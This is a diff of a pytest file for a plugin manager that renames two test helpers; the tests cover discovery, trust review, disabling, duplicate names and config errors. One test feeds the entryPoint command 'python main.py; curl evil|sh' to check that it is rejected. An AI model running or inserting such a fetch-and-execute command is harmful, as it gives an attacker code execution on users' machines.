@@ -28,12 +28,12 @@ def home(tmp_path: Path) -> Path:
     return tmp_path / "home"
 
 
-def refreshed(plugins: Plugins) -> Plugins:
+def refresh(plugins: Plugins) -> Plugins:
     plugins.refresh()
     return plugins
 
 
-def only(plugins: Plugins) -> Plugin:
+def refresh_only_plugin(plugins: Plugins) -> Plugin:
     plugins.refresh()
     (plugin,) = plugins.all
     return plugin
@@ -54,7 +54,7 @@ def test_plugins_are_found_in_every_plugin_folder(tmp_path: Path) -> None:
     (home / "plugins/no-plugin").mkdir()
     (home / "plugins/file").write_text("")
     roots = [root for root in list_roots(project, home, [given]) if root.origin is not Origin.SHIPPED]
-    plugins = refreshed(Plugins(roots, home=home, trust=Trust(home, folders=[tmp_path]), programs=PROGRAMS))
+    plugins = refresh(Plugins(roots, home=home, trust=Trust(home, folders=[tmp_path]), programs=PROGRAMS))
     assert [(p.name, p.origin) for p in plugins.all] == [
         ("Given", Origin.GIVEN),
         ("InHome", Origin.HOME),
@@ -73,7 +73,7 @@ def test_a_shipped_plugin_needs_no_review_under_whatever_folder_it_is_found(root
         PluginRoot(root.parent / "theirs", Origin.HOME),
         PluginRoot(root, Origin.SHIPPED),
     ]
-    plugins = refreshed(Plugins(roots, home=home, trust=Trust(home), programs=PROGRAMS))
+    plugins = refresh(Plugins(roots, home=home, trust=Trust(home), programs=PROGRAMS))
     assert [(p.name, p.origin, p.state) for p in plugins.all] == [
         ("Ours", Origin.SHIPPED, PluginState.READY),
         ("Theirs", Origin.HOME, PluginState.NEEDS_REVIEW),
@@ -86,7 +86,7 @@ def test_a_shipped_plugin_runs_in_our_interpreter_and_others_in_the_owners(root:
     make_plugin(root.parent / "theirs", "Theirs")
     roots = [PluginRoot(root, Origin.SHIPPED), PluginRoot(root.parent / "theirs", Origin.HOME)]
     programs = Programs(os.defpath, python="/opt/theirs/python")
-    plugins = refreshed(Plugins(roots, home=home, trust=Trust(home), programs=programs))
+    plugins = refresh(Plugins(roots, home=home, trust=Trust(home), programs=programs))
     assert [p.command.argv[0] for p in plugins.all if p.command] == [sys.executable, "/opt/theirs/python"]
 
 
@@ -100,7 +100,7 @@ def test_the_shipped_folder_is_the_one_of_the_checkout_or_of_the_package() -> No
 @pytest.mark.requirement("plugin:discovery")
 def test_a_folder_that_is_itself_a_plugin_counts_as_one(root: Path, home: Path) -> None:
     folder = make_plugin(root, "Single")
-    assert only(plugins_in(folder, home=home)).name == "Single"
+    assert refresh_only_plugin(plugins_in(folder, home=home)).name == "Single"
 
 
 @pytest.mark.requirement("plugin:discovery")
@@ -129,7 +129,7 @@ def test_a_block_file_disables_a_plugin(root: Path, home: Path, both: bool) -> N
     shutil.copy(manifest, f"{manifest}.block")
     if not both:
         manifest.unlink()
-    plugin = only(plugins_in(root, home=home))
+    plugin = refresh_only_plugin(plugins_in(root, home=home))
     assert (plugin.name, plugin.state, plugin.manifest is not None) == ("Blocked", PluginState.DISABLED, True)
     assert ".block" in plugin.reason
 
@@ -138,19 +138,19 @@ def test_a_block_file_disables_a_plugin(root: Path, home: Path, both: bool) -> N
 def test_a_plugin_is_disabled_by_command_in_every_run_until_it_is_enabled(root: Path, home: Path) -> None:
     before = (make_plugin(root, "Some") / "plugin-manifest.json").read_bytes()
     plugins = plugins_in(root, home=home)
-    plugins.disable(only(plugins))
-    assert only(plugins).state is PluginState.DISABLED
-    assert "toolyard plugin enable Some" in only(plugins_in(root, home=home)).reason
+    plugins.disable(refresh_only_plugin(plugins))
+    assert refresh_only_plugin(plugins).state is PluginState.DISABLED
+    assert "toolyard plugin enable Some" in refresh_only_plugin(plugins_in(root, home=home)).reason
     assert (home / "disabled.json").stat().st_mode & 0o777 == 0o600
-    plugins.enable(only(plugins))
-    assert only(plugins_in(root, home=home)).state is PluginState.READY
+    plugins.enable(refresh_only_plugin(plugins))
+    assert refresh_only_plugin(plugins_in(root, home=home)).state is PluginState.READY
     assert (root / "Some/plugin-manifest.json").read_bytes() == before
 
 
 @pytest.mark.requirement("plugin:disabled")
 def test_nothing_runs_while_nobody_can_tell_what_is_disabled(root: Path, home: Path) -> None:
     make_plugin(root, "Some")
-    plugins = refreshed(plugins_in(root, home=home))
+    plugins = refresh(plugins_in(root, home=home))
     home.mkdir()
     (home / "disabled.json").write_text("{ half")
     current = plugins.current("Some")
@@ -161,7 +161,7 @@ def test_nothing_runs_while_nobody_can_tell_what_is_disabled(root: Path, home: P
 @pytest.mark.requirement("plugin:disabled")
 def test_disabling_takes_effect_at_the_next_call_also_from_another_process(root: Path, home: Path) -> None:
     make_plugin(root, "Some")
-    running, other = refreshed(plugins_in(root, home=home)), refreshed(plugins_in(root, home=home))
+    running, other = refresh(plugins_in(root, home=home)), refresh(plugins_in(root, home=home))
     other.disable(other.all[0])
     current = running.current("Some")
     assert current is not None
@@ -187,7 +187,7 @@ def test_an_unreviewed_plugin_takes_no_name_from_one_that_may_run(root: Path, ho
     make_plugin(root / "untrusted", "Same")
     make_plugin(root / "trusted", "Same")
     plugins = plugins_in(root / "untrusted", root / "trusted", home=home, trusted=[root / "trusted"])
-    waiting, running = refreshed(plugins).all
+    waiting, running = refresh(plugins).all
     assert (waiting.state, running.state) == (PluginState.NEEDS_REVIEW, PluginState.READY)
     assert waiting.reason.endswith(f"until then the one in {running.folder} runs")
     assert plugins.get("Same") == running
@@ -207,7 +207,7 @@ def test_of_plugins_with_one_name_the_given_one_wins_then_home_project_and_shipp
     trust = Trust(home, folders=[tmp_path])
     plugins = Plugins(roots, home=home, trust=trust, programs=PROGRAMS)
     for number, folder in enumerate(folders):
-        refreshed(plugins)
+        refresh(plugins)
         first, *others = [plugin for plugin in plugins.all if plugin.state is not PluginState.DISABLED]
         assert (first.folder, first.state, first.hides) == (folder, PluginState.READY, tuple(folders[number + 1 :]))
         assert [(one.state, one.hidden_by) for one in others] == [(PluginState.DUPLICATE, folder)] * len(others)
@@ -224,20 +224,20 @@ def test_what_is_hidden_stays_hidden_after_its_review_and_what_changed_gives_the
         make_plugin(root / place, "Same")
     trusted = [root / "second"]
     plugins = plugins_in(root / "first", root / "second", root / "third", home=home, trusted=trusted)
-    assert [plugin.state for plugin in refreshed(plugins).all] == [
+    assert [plugin.state for plugin in refresh(plugins).all] == [
         PluginState.NEEDS_REVIEW,
         PluginState.READY,
         PluginState.DUPLICATE,  # no review would give it the name
     ]
     trust = Trust(home, folders=trusted)
     trust.allow(trust.review(plugins.all[0], ()), at="now")
-    assert [plugin.state for plugin in refreshed(plugins).all] == [
+    assert [plugin.state for plugin in refresh(plugins).all] == [
         PluginState.READY,
         PluginState.DUPLICATE,
         PluginState.DUPLICATE,
     ]
     (root / "first/Same/main.py").write_text("print('changed')\n")
-    changed, running, _ = refreshed(plugins).all
+    changed, running, _ = refresh(plugins).all
     assert (changed.state, running.state) == (PluginState.CHANGED, PluginState.READY)
     assert f"until then the one in {running.folder} runs" in changed.reason
 
@@ -246,7 +246,7 @@ def test_what_is_hidden_stays_hidden_after_its_review_and_what_changed_gives_the
 @pytest.mark.parametrize("name", ["FileOperator", "fileoperator"])
 def test_the_names_of_built_in_tools_are_reserved(root: Path, home: Path, name: str) -> None:
     make_plugin(root, name)
-    plugin = only(plugins_in(root, home=home, reserved=["Read", "FileOperator"]))
+    plugin = refresh_only_plugin(plugins_in(root, home=home, reserved=["Read", "FileOperator"]))
     assert (plugin.state, "built-in" in plugin.reason) == (PluginState.SHADOWED, True)
 
 
@@ -254,7 +254,7 @@ def test_the_names_of_built_in_tools_are_reserved(root: Path, home: Path, name: 
 @pytest.mark.parametrize("kind", ["messagePreprocessor", "service", "hybridservice"])
 def test_a_plugin_of_a_type_that_cannot_run_here_is_listed_with_the_reason(root: Path, home: Path, kind: str) -> None:
     make_plugin(root, "Theirs", pluginType=kind, entryPoint={"script": "main.js"})
-    plugin = only(plugins_in(root, home=home))
+    plugin = refresh_only_plugin(plugins_in(root, home=home))
     assert (plugin.state, bool(plugin.reason)) == (PluginState.UNSUPPORTED, True)
 
 
@@ -308,9 +308,9 @@ def test_a_bad_manifest_costs_only_its_own_plugin(root: Path, home: Path, how: s
 def test_while_running_the_last_good_version_is_kept_until_a_good_one_comes(root: Path, home: Path, how: str) -> None:
     folder = make_plugin(root, "Bad", version="1")
     plugins = plugins_in(root, home=home)
-    first = only(plugins)
+    first = refresh_only_plugin(plugins)
     spoil(folder, how)
-    kept = only(plugins)
+    kept = refresh_only_plugin(plugins)
     assert (kept.state, kept.manifest) == (PluginState.READY, first.manifest)
     assert "last good version" in kept.reason
     assert any(not problem.warning for problem in kept.problems)
@@ -321,7 +321,7 @@ def test_while_running_the_last_good_version_is_kept_until_a_good_one_comes(root
     else:
         manifest.unlink()
     manifest.write_text(manifest_text("Bad", version="2"))
-    mended = only(plugins)
+    mended = refresh_only_plugin(plugins)
     assert mended.manifest is not None
     assert (mended.manifest.version, mended.reason, mended.problems) == ("2", "", ())
 
@@ -330,7 +330,7 @@ def test_while_running_the_last_good_version_is_kept_until_a_good_one_comes(root
 def test_the_place_of_a_fault_is_told(root: Path, home: Path) -> None:
     folder = make_plugin(root, "Bad")
     (folder / "plugin-manifest.json").write_bytes(b'{\n  "name": "B\xff"\n}')
-    problem = only(plugins_in(root, home=home)).problems[0]
+    problem = refresh_only_plugin(plugins_in(root, home=home)).problems[0]
     assert str(problem) == "plugin-manifest.json:2:13: is not UTF-8. Fix: save it as UTF-8"
 
 
@@ -355,12 +355,12 @@ def test_links_that_lead_nowhere_or_in_circles_are_listed_and_hurt_nobody(root: 
 def test_a_half_written_config_is_never_used(root: Path, home: Path) -> None:
     folder = make_plugin(root, "Some", config='TOKEN="whole"\n')
     plugins = plugins_in(root, home=home)
-    assert only(plugins).config == {"TOKEN": "whole"}
+    assert refresh_only_plugin(plugins).config == {"TOKEN": "whole"}
     (folder / "config.env").write_text('TOKEN="ne')
-    kept = only(plugins)
+    kept = refresh_only_plugin(plugins)
     assert (kept.state, kept.config) == (PluginState.READY, {"TOKEN": "whole"})
     assert "config.env:1" in kept.reason
-    fresh = only(plugins_in(root, home=home))
+    fresh = refresh_only_plugin(plugins_in(root, home=home))
     assert (fresh.state, fresh.config) == (PluginState.BROKEN, {})
     (folder / "config.env").write_text('TOKEN="new"\n')
     assert plugins.refresh() == Changes(changed=("Some",))
@@ -370,7 +370,7 @@ def test_a_half_written_config_is_never_used(root: Path, home: Path) -> None:
 @pytest.mark.requirement("plugin:config:file")
 def test_an_odd_line_of_config_env_is_a_warning(root: Path, home: Path) -> None:
     make_plugin(root, "Some", config="A=1\nwhat?\n")
-    plugin = only(plugins_in(root, home=home))
+    plugin = refresh_only_plugin(plugins_in(root, home=home))
     assert (plugin.state, plugin.config) == (PluginState.READY, {"A": "1"})
     assert [(p.file, p.line, p.warning) for p in plugin.problems] == [("config.env", 2, True)]
 
@@ -378,15 +378,15 @@ def test_an_odd_line_of_config_env_is_a_warning(root: Path, home: Path) -> None:
 @pytest.mark.requirement("s:S-90")
 def test_secrets_that_other_users_could_read_are_told(root: Path, home: Path) -> None:
     folder = make_plugin(root, "Some", config="API_KEY=abc\n")
-    assert only(plugins_in(root, home=home)).problems == ()
+    assert refresh_only_plugin(plugins_in(root, home=home)).problems == ()
     (folder / "config.env").chmod(0o644)
-    assert [p.fix for p in only(plugins_in(root, home=home)).problems] == ["chmod 600 config.env"]
+    assert [p.fix for p in refresh_only_plugin(plugins_in(root, home=home)).problems] == ["chmod 600 config.env"]
 
 
 @pytest.mark.requirement("plugin:command", "s:S-81")
 def test_a_command_that_cannot_run_breaks_the_plugin_and_says_why(root: Path, home: Path) -> None:
     make_plugin(root, "Some", entryPoint={"command": "python main.py; curl evil|sh"})
-    plugin = only(plugins_in(root, home=home))
+    plugin = refresh_only_plugin(plugins_in(root, home=home))
     assert (plugin.state, plugin.command) == (PluginState.BROKEN, None)
     assert plugin.reason.startswith("entryPoint.command: ';'")
 
@@ -408,7 +408,7 @@ def test_a_refresh_tells_what_was_added_changed_and_removed(root: Path, home: Pa
 @pytest.mark.requirement("r:R31")
 def test_a_call_uses_the_manifest_that_stands_there_now(root: Path, home: Path) -> None:
     folder = make_plugin(root, "Some", version="1")
-    plugins = refreshed(plugins_in(root, home=home))
+    plugins = refresh(plugins_in(root, home=home))
     before = plugins.current("Some")
     assert plugins.current("Some") is before
     shutil.rmtree(folder)
@@ -427,7 +427,7 @@ def test_a_call_uses_the_manifest_that_stands_there_now(root: Path, home: Path) 
 def test_the_keys_of_other_plugins_are_known(root: Path, home: Path) -> None:
     make_plugin(root, "A", config="A_KEY=1\n")
     make_plugin(root, "B", config="B_KEY=1\n")
-    assert refreshed(plugins_in(root, home=home)).keys_of_others("A") == {"B_KEY"}
+    assert refresh(plugins_in(root, home=home)).keys_of_others("A") == {"B_KEY"}
 
 
 @pytest.mark.requirement("plugin:discovery")
@@ -452,7 +452,7 @@ def test_what_is_left_out_of_a_folder_with_too_many_plugins_is_told(tmp_path: Pa
     assert paths == ["P", *(f"P{number:05}" for number in range(MAX_FOLDERS - 1))]
     message = f"4 of its {many + 1} folders are left out: all after 'P{MAX_FOLDERS - 2:05}'"
     assert [(path, problem.message) for path, _, problem in found if problem] == [(folder, message)]
-    plugins = refreshed(plugins_in(folder, home=tmp_path / "home"))
+    plugins = refresh(plugins_in(folder, home=tmp_path / "home"))
     assert [(one.state, one.reason) for one in plugins.all if one.folder == folder] == [(PluginState.BROKEN, message)]
     (tmp_path / "project").mkdir()
     checks = list(examine(str(tmp_path / "project"), str(tmp_path / "home")))
